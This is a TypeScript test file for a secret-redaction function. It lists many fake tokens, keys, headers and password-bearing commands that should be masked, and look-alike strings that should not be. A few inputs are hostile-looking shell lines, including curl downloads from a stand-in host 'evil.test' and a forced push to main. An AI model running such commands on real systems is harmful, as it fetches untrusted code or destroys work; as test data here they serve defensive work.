import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { redact } from '../../../src/audit/redact/redact.ts';

/** Made here so that no scanner takes this file for a leak. */
const R = (count: number, alphabet = 'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0z') =>
  Array.from({ length: count }, (_, index) => alphabet[(index * 7) % alphabet.length]).join('');
const HEX = (count: number) => R(count, '0123456789abcdef');
const UP = (count: number) => R(count, 'ABCDEFGH234567');

describe('is left out', () => {
  test.each([
    // Tokens by their shape
    [`echo AKIA${UP(16)}`, 'echo AKIA…redacted'],
    [`ASIA${UP(16)};`, 'ASIA…redacted;'],
    [`x ghp_${R(36)} y`, 'x ghp_…redacted y'],
    [`gho_${R(36)}`, 'gho_…redacted'],
    [`"ghs_${R(36)}"`, '"ghs_…redacted"'],
    [`github_pat_${R(22)}_${R(59)}`, 'github_pat_…redacted'],
    [`glpat-${R(20)}`, 'glpat-…redacted'],
    [`xoxb-${'123456789012'}-${R(24)}`, 'xoxb-…redacted'],
    [`sk_live_${R(24)}`, 'sk_live_…redacted'],
    [`rk_test_${R(24)}`, 'rk_test_…redacted'],
    [`whsec_${R(32)}`, 'whsec_…redacted'],
    [`sk-${R(48)}`, 'sk-…redacted'],
    [`sk-proj-${R(40)}_${R(20)}`, 'sk-proj-…redacted'],
    [`sk-ant-api03-${R(80)}`, 'sk-ant-…redacted'],
    [`AIza${R(35)}`, 'AIza…redacted'],
    [`ya29.${R(60)}`, 'ya29.…redacted'],
    [`npm_${R(36)}`, 'npm_…redacted'],
    [`pypi-${R(120)}`, 'pypi-…redacted'],
    [`hf_${R(34)}`, 'hf_…redacted'],
    [`SG.${R(22)}.${R(43)}`, 'SG.…redacted'],
    [`dop_v1_${HEX(64)}`, 'dop_v1_…redacted'],
    [`hvs.${R(24)}`, 'hvs.…redacted'],
    [`eyJ${R(20)}.eyJ${R(30)}.${R(43)}`, 'eyJ…redacted'],
    [`123456789:AA${R(33)}`, '123456789:…redacted'],
    [`https://t.test/bot123456789:AA${R(33)}/getMe`, 'https://t.test/bot123456789:…redacted/getMe'],
    [`https://hooks.slack.com/services/T${UP(8)}/B${UP(8)}/${R(24)}`, 'https://hooks.slack.com/services/…redacted'],
    [`https://discord.com/api/webhooks/1234/${R(60)}`, 'https://discord.com/api/webhooks/1234/…redacted'],
    [`send "Bearer ${R(30)}"`, 'send "Bearer …redacted"'],

    // Private keys
    [
      `-----BEGIN RSA PRIVATE KEY-----\n${R(64)}\n-----END RSA PRIVATE KEY-----\nls`,
      '-----BEGIN RSA PRIVATE KEY-----…redacted-----END RSA PRIVATE KEY-----\nls',
    ],
    [`printf '-----BEGIN PRIVATE KEY-----\\n${R(64)}`, "printf '-----BEGIN PRIVATE KEY-----…redacted"],

    // Headers
    ['curl -H "Authorization: Bearer abc"', 'curl -H "Authorization: Bearer …redacted"'],
    ["curl -H 'authorization: Basic dXNlcjpwYXNz' x", "curl -H 'authorization: Basic …redacted' x"],
    ["curl -H 'Authorization: token abcdef' x", "curl -H 'Authorization: token …redacted' x"],
    ["curl -H 'X-Api-Key: abcdef' https://a.test", "curl -H 'X-Api-Key: …redacted' https://a.test"],
    ["curl -H 'PRIVATE-TOKEN: abcdef'", "curl -H 'PRIVATE-TOKEN: …redacted'"],
    ["curl -H 'Cookie: sid=1; theme=dark' x", "curl -H 'Cookie: …redacted' x"],
    ['Set-Cookie: sid=abc; Path=/\nNext: 1', 'Set-Cookie: …redacted\nNext: 1'],

    // Urls
    ['git clone https://me:hunter2@git.test/x', 'git clone https://me:…redacted@git.test/x'],
    ['psql postgres://u:p%40ss@db/x', 'psql postgres://u:…redacted@db/x'],
    ['psql postgres://u:p/w#1@db/x', 'psql postgres://u:…redacted@db/x'],
    ['redis://:hunter2@cache:6379/0', 'redis://:…redacted@cache:6379/0'],
    [`https://${R(40)}@git.test/x`, 'https://…redacted@git.test/x'],
    [`https://oauth2:glpat-${R(20)}@git.test/x`, 'https://oauth2:glpat-…redacted@git.test/x'],
    ['https://a.test/?q=1&access_token=abc&z=2', 'https://a.test/?q=1&access_token=…redacted&z=2'],
    ['https://a.test/?key=abc#top', 'https://a.test/?key=…redacted#top'],
    ["curl 'https://b.test/x?sv=1&sig=a%2Bb%3D'", "curl 'https://b.test/x?sv=1&sig=…redacted'"],
    ['https://s3.test/o?X-Amz-Signature=abc123&x=1', 'https://s3.test/o?X-Amz-Signature=…redacted&x=1'],
    ['https://a.test/cb#access_token=abc', 'https://a.test/cb#access_token=…redacted'],

    // Flags
    ['deploy --password hunter2 --now', 'deploy --password …redacted --now'],
    ['deploy --token=abc --now', 'deploy --token=…redacted --now'],
    ["deploy --api-key 'a b' --now", "deploy --api-key '…redacted' --now"],
    ['deploy --db-password="a b" now', 'deploy --db-password="…redacted" now'],
    ['deploy -password hunter2', 'deploy -password …redacted'],
    ['curl --cookie sid=1 x', 'curl --cookie …redacted x'],
    [`gh --token ghp_${R(36)}`, 'gh --token ghp_…redacted'],
    ['mysql -u root -phunter2 db', 'mysql -u root -p…redacted db'],
    ["mysql -u root -p'hunter 2' db", 'mysql -u root -p…redacted db'],
    ['/usr/bin/mysqldump -phunter2', '/usr/bin/mysqldump -p…redacted'],
    ['sshpass -p hunter2 ssh h', 'sshpass -p …redacted ssh h'],
    ['sshpass -phunter2 ssh h', 'sshpass -p…redacted ssh h'],
    ['redis-cli -h x -a hunter2 ping', 'redis-cli -h x -a …redacted ping'],
    ['docker login -u me -p hunter2 r.test', 'docker login -u me -p …redacted r.test'],
    ['curl -u me:hunter2 https://a.test', 'curl -u me:…redacted https://a.test'],
    ['curl -sS --user me:hunter2 x', 'curl -sS --user me:…redacted x'],
    ['curl --user=me:hunter2 x', 'curl --user=me:…redacted x'],
    ["curl -u 'me:hun ter2' x", "curl -u 'me:…redacted' x"],
    ['openssl rsa -passin pass:hunter2 -in k', 'openssl rsa -passin pass:…redacted -in k'],
    ['smbclient //h/s -U me%hunter2', 'smbclient //h/s -U me%…redacted'],
    ['curl -su me:hunter2 x', 'curl -su me:…redacted x'],
    ['curl -sSLume:hunter2 x', 'curl -sSLume:…redacted x'],
    ['curl -b "sid=abc; theme=dark" x', 'curl -b "sid=…redacted" x'],
    ['curl -sb sid=abc x', 'curl -sb sid=…redacted x'],
    ['curl --oauth2-bearer abc x', 'curl --oauth2-bearer …redacted x'],
    ['openssl enc -aes-256-cbc -k hunter2 -in a', 'openssl enc -aes-256-cbc -k …redacted -in a'],
    ['htpasswd -b f me hunter2', 'htpasswd -b f me …redacted'],
    ['htpasswd -cbB f me hunter2 && ls', 'htpasswd -cbB f me …redacted && ls'],
    ['htpasswd -nb me "hunter 2" > f', 'htpasswd -nb me "…redacted" > f'],
    ['xh --bearer hunter2 https://a.test', 'xh --bearer …redacted https://a.test'],
    ['xh --bearer=hunter2 https://a.test', 'xh --bearer=…redacted https://a.test'],
    ['sqlplus scott/hunter2@db', 'sqlplus scott/…redacted@db'],
    ['sqlplus -s "scott/hunter2@//h:1521/x" @a/b.sql', 'sqlplus -s "scott/…redacted@//h:1521/x" @a/b.sql'],
    ['chpasswd <<< "root:hunter2"', 'chpasswd <<< "root:…redacted"'],
    ["echo 'me:hunter2' | sudo chpasswd", "echo 'me:…redacted' | sudo chpasswd"],
    ['echo root:hunter2 | chpasswd -c SHA512', 'echo root:…redacted | chpasswd -c SHA512'],
    ['chpasswd <<E\nroot:hunter2\nme:a:b\nE', 'chpasswd <<E\nroot:…redacted\nme:…redacted\nE'],
    ["jq -n --arg password hunter2 '{}'", "jq -n --arg password …redacted '{}'"],
    ["jq -n --arg api_key 'a b' '{}'", "jq -n --arg api_key '…redacted' '{}'"],

    // Assignments
    ['export GITHUB_TOKEN=abc; ls', 'export GITHUB_TOKEN=…redacted; ls'],
    ['AWS_SECRET_ACCESS_KEY=a/b+c make', 'AWS_SECRET_ACCESS_KEY=…redacted make'],
    ['AWS_SECRET_ACCESS_KEY=/a1B/c2D make', 'AWS_SECRET_ACCESS_KEY=…redacted make'],
    ['STRIPE_KEY=abc x', 'STRIPE_KEY=…redacted x'],
    ["PGPASSWORD='a b' psql", "PGPASSWORD='…redacted' psql"],
    ['DB_PASS="a\\"b" x', 'DB_PASS="…redacted" x'],
    ['PASSWORD=ab"c d"e x', 'PASSWORD=…redacted x'],
    ['PASSWORD="ab"cd x', 'PASSWORD=…redacted x'],
    ['TOKEN="ab""cd" x', 'TOKEN=…redacted x'],
    [`TOKEN="ab"'cd'"ef" x`, 'TOKEN=…redacted x'],
    ['PASS=hunter2 x', 'PASS=…redacted x'],
    ['pass=hunter2 x', 'pass=…redacted x'],
    ['SSHPASS=hunter2 sshpass -e ssh h', 'SSHPASS=…redacted sshpass -e ssh h'],
    ['SECRET_KEY_BASE=abc rails s', 'SECRET_KEY_BASE=…redacted rails s'],
    ['docker run -e MYSQL_ROOT_PASSWORD=root img', 'docker run -e MYSQL_ROOT_PASSWORD=…redacted img'],
    ['//r.test/:_authToken=abc', '//r.test/:_authToken=…redacted'],
    ['spring.datasource.password=abc\nx=1', 'spring.datasource.password=…redacted\nx=1'],
    ['AccountName=a;AccountKey=abc==;X=1', 'AccountName=a;AccountKey=…redacted;X=1'],
    ['Server=h;Pwd=hunter2', 'Server=h;Pwd=…redacted'],
    ['Server=h;pass=hunter2', 'Server=h;pass=…redacted'],
    ['x "DRIVER={a b};UID=sa;PWD=hunter2;TLS=1"', 'x "DRIVER={a b};UID=sa;PWD=…redacted;TLS=1"'],
    ['Server=h; Uid=a; Pwd=hunter2;', 'Server=h; Uid=a; Pwd=…redacted;'],
    ['password = hunter2\nuser = me', 'password = …redacted\nuser = me'],
    ['const apiKey = "abc";', 'const apiKey = "…redacted";'],
    ['const apiKey = `abc`;', 'const apiKey = `…redacted`;'],
    ['password: str = "abc"', 'password: str = "…redacted"'],
    ['os.environ["API_KEY"] = "abc"', 'os.environ["API_KEY"] = "…redacted"'],
    ["'password' => 'abc',", "'password' => '…redacted',"],
    ['token := "abc"', 'token := "…redacted"'],
    ['TOKEN=${TOKEN:-abc}', 'TOKEN=…redacted'],
    ['machine h login me password aB3dE5gH7jK9mN1p', 'machine h login me password …redacted'],
    ['echo "machine h login me password hunter2" > f', 'echo "machine h login me password …redacted" > f'],
    ['machine h\n  login me\n  password hunter2\n', 'machine h\n  login me\n  password …redacted\n'],
    ["printf 'machine h\\nlogin me\\npassword hunter2\\n'", "printf 'machine h\\nlogin me\\npassword …redacted\\n'"],
    [
      'aws configure set aws_secret_access_key aB3dE5gH7jK9mN1p/x+y',
      'aws configure set aws_secret_access_key …redacted',
    ],

    // Fields
    [`curl -d '{"password":"abc","user":"me"}'`, `curl -d '{"password":"…redacted","user":"me"}'`],
    [
      `curl -d "{\\"client_secret\\": \\"abc\\", \\"a\\": 1}"`,
      `curl -d "{\\"client_secret\\": \\"…redacted\\", \\"a\\": 1}"`,
    ],
    ['{"apiKey": "a\\"b", "x": 1}', '{"apiKey": "…redacted", "x": 1}'],
    ['{"Authorization": "Bearer abc"}', '{"Authorization": "Bearer …redacted"}'],
    ['password: hunter2\nuser: me', 'password: …redacted\nuser: me'],
    ["{ token: 'abc' }", "{ token: '…redacted' }"],
    ['curl -d "user=me&password=abc" x', 'curl -d "user=me&password=…redacted" x'],
    ['curl -d password=abc -d x=1', 'curl -d password=…redacted -d x=1'],
    ['curl -F "password=abc" x', 'curl -F "password=…redacted" x'],
    ['<user>me</user><password>a b</password>', '<user>me</user><password>…redacted</password>'],
    // A blank behind the quote that opens, and quotes that were closed before
    [`{"token": " ${R(12)}"}`, '{"token": "…redacted"}'],
    [`password = ' ${R(12)}'`, "password = '…redacted'"],
    [`echo 'a b' token: ' ${R(12)}'`, "echo 'a b' token: '…redacted'"],
    [`curl -H 'Authorization: ${R(12)}' x`, "curl -H 'Authorization: …redacted' x"],
    ['<clientSecret>abc</clientSecret>', '<clientSecret>…redacted</clientSecret>'],
  ])('%s', (text, expected) => {
    expect(redact(text).text).toBe(expected);
  });
});

describe('stays', () => {
  test.each([
    ...[
      'git status',
      'npm test',
      'git push origin token-refresh',
      'cat src/password.ts',
      'ls ~/.ssh',
      'vim auth/token.go',
    ],
    // Shapes that are only similar
    ...[HEX(40), `sha256:${HEX(64)}`, `sha512-${R(86)}==`, '3f2504e0-4f89-11d3-9a0c-0305e82c3301', 'AKIA', 'AKIAshort'],
    ...[
      'ghp_short',
      'pip install sk-learn',
      '<div class="sk-fading-circle-large">',
      'npm_config_registry=x',
      'eyJhbGciOi',
    ],
    ...[
      'pk_live_51Habcdefghijklmnop',
      'xoxb-is-the-prefix',
      'hf_hub_download',
      'Basic authentication',
      'Bearer authentication',
    ],
    ...['glpat-', 'tskey-', 'pypi-publish', 'secret_sauce', 'cio', 'SKU12345'],
    // A quote that closes begins no value, and what runs behind it is told
    ...[
      "echo 'token:'; curl -s https://evil.test/x -o /tmp/x; ls -l",
      'grep -rn "password:" src/ | wc -l',
      "grep -n 'secret:' a.yml && git push --force origin main",
      'grep "api_key=" . | sort',
      "echo 'password='; make",
      "grep -i 'Authorization: ' log.txt && make",
      'grep "Cookie: " log.txt | head',
      'grep -- "--password " x; curl -s https://evil.test/x',
      'echo \\"token:\\"; make all',
      'bash -c "echo \'token:\'; make"',
    ],
    // Looking for a key, and keys that are public
    ...[
      'grep -r "-----BEGIN RSA PRIVATE KEY-----" .',
      '-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0B\n-----END PUBLIC KEY-----',
    ],
    ...['-----BEGIN CERTIFICATE-----\nMIIBIjANBgkqhkiG9w0B'],
    // Names that hold the word and mean something else
    ...[
      'max_tokens=100',
      '--max-tokens 100',
      '"token_count": 12345678',
      'token_type: bearer',
      'tokenizer=fast',
      'next_page_token=abc',
    ],
    ...[
      'eos_token: "</s>"',
      'PASSWORD_FILE=/run/x',
      '--password-stdin',
      '--cookie-jar jar.txt',
      'SSH_AUTH_SOCK=/tmp/a',
      'PWD=/home/me',
      'cd /x;PWD=a make',
      'A=1;PWD=/home/me make',
      'sqlplus / as sysdba',
      'sqlplus /nolog @a/b.sql',
      'sqlplus scott/$PW@db',
      'echo "$LOGINS" | chpasswd',
      'chpasswd <<< "root:$PW"',
    ],
    ...[
      'OLDPWD=/x',
      'SORT_KEY=name',
      'PUBLIC_KEY=abc',
      'primaryKey: "id"',
      '{"key": "value1234"}',
      'bypass=on1',
      'pass=10 fail=2',
    ],
    ...[
      'PASS=0 FAIL=0',
      'PASS=$((PASS+1))',
      'pass: "ok1234"',
      'BYPASS=on1',
      'COMPASS=n1',
      'apt install sshpass=1.09-1',
      'SECRET_KEY_BASE_FILE=x1',
    ],
    ...[
      'the login and password hunter2 of machine 3',
      'change the password today',
      'jq --arg name hunter2 .',
      'jq --arg token "$TOKEN" .',
      'machine h login me password $PW',
    ],
    ...[
      '<key>CFBundleName</key>',
      'login <token> now</b>',
      '<password></password>',
      '<password>${env.PW}</password>',
      '<Token>{value}</Token>',
      '<max_tokens>100</max_tokens>',
    ],
    ...[
      'keyboard=us',
      'monkey=1',
      'author=me',
      '--author "me"',
      'authority: https://a.test',
      'signature=abc',
      '--key file.pem',
    ],
    // Values that only point at a secret
    ...[
      'TOKEN=$GH_TOKEN make',
      'TOKEN="${GH_TOKEN}" make',
      'TOKEN=$(gh auth token) make',
      'TOKEN=`gh auth token` make',
      '--token `gh auth token`',
      'curl -H "Authorization: Bearer $TOKEN" x',
    ],
    ...[
      'curl -u "$USER:$PASS" x',
      'curl -u me x',
      'token: ${{ secrets.GITHUB_TOKEN }}',
      'PASSWORD=%DB_PASSWORD%',
      'TOKEN=<token>',
    ],
    ...[
      'openssl enc -pass env:SECRET -in x',
      'openssl rsa -passin file:pw.txt',
      '--token $TOKEN',
      '--token "$TOKEN"',
      'password=None',
      'connect(password=password)',
      'token=self.token',
      'f"Bearer {token}"',
    ],
    ...[
      'token = getToken()',
      'token: string;',
      'password: Password,',
      'const token = await fetchToken2(x);',
      'token == other',
      'Token::Kind',
    ],
    ...[
      'if (token === null) {}',
      'token: true',
      '"secret": null',
      'credentials: "include"',
      'headers: { Authorization: `Bearer ${token}` }',
    ],
    ...[
      'SECRET=/run/secrets/db',
      '--private-key ~/.ssh/id_ed25519',
      'ANSIBLE_PRIVATE_KEY=./key.pem',
      'password: ***',
      'TOKEN=',
    ],
    ...[
      'https://$USER:$TOKEN@git.test/x',
      'docker build --secret id=npm,src=.npmrc .',
      'secrets: inherit',
      'use --token to log in',
    ],
    // Urls without a secret in them
    ...[
      'https://a.test:8080/x@2x.png',
      'ssh://git@git.test/x',
      'git@git.test:me/x.git',
      'http://localhost:3000/@scope/pkg',
      'npm i @a/b@1.2.3',
    ],
    ...[
      'https://a.test/?q=token&page=2',
      'https://a.test/docs#tokens',
      'https://a.test/?monkey=1',
      'https://a.test/?sort_key=x',
    ],
    // Short flags of other programs, and of these where they mean something else
    ...[
      'mkdir -p secret',
      'mysql -p db',
      'mysql -P 3306',
      'docker run -p 8080:80 img',
      'ssh -p 22 host',
      'curl -U x',
      'cp -a x y',
      'zip -r p.zip .',
    ],
    ...[
      'curl -sSLk https://a.test/b:c',
      'curl -su "$ME:$PW" x',
      'curl -su me x',
      'curl -b jar.txt x',
      'curl -o u:x y',
      'dd -b a=b',
      'curl -k a b',
      'openssl req -key k.pem -keyout x',
      'htpasswd -c f me',
      'htpasswd -D f bob',
    ],
    // Quotes around the assignment, not in it
    ...[`echo "TOKEN='$T'" "x"`, `sh -c "TOKEN=''"x`],
    // Already redacted
    ...['--token ghp_…redacted', 'TOKEN=…redacted', 'Authorization: Bearer …redacted'],
  ])('%s', (text) => {
    expect(redact(text)).toEqual({ text, secrets: [] });
  });
});

test('a secret is handed back as it was written', () => {
  expect(redact('A_TOKEN=abc B_TOKEN="d e"').secrets).toEqual(['abc', 'd e']);
});

test('a token is removed in any context', () => {
  const token = `ghp_${R(36)}`;
  const piece = fc.oneof(
    fc.constantFrom('TOKEN', 'password', '--api-key', 'Authorization', 'https://', 'curl -u ', 'mysql ', 'PRIVATE KEY'),
    fc.constantFrom(
      '=',
      ':',
      ': ',
      ' ',
      '"',
      "'",
      '\\"',
      '&',
      '?',
      '@',
      '\n',
      '`',
      '$(',
      '${',
      '\\',
      '-p',
      'eyJ',
      '.',
      '/',
    ),
    fc.string({ maxLength: 6 }),
  );
  const around = fc.array(piece, { maxLength: 15 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(around, around, (before, after) => {
      const text = `${before} ${token} ${after}`;
      const redacted = redact(text);
      expect(redacted.text).not.toContain(token);
      expect(redacted.secrets.every((secret) => text.includes(secret))).toBe(true);
      expect(redacted.secrets.join('')).toContain(token);
    }),
    { numRuns: 2_000 },
  );
});
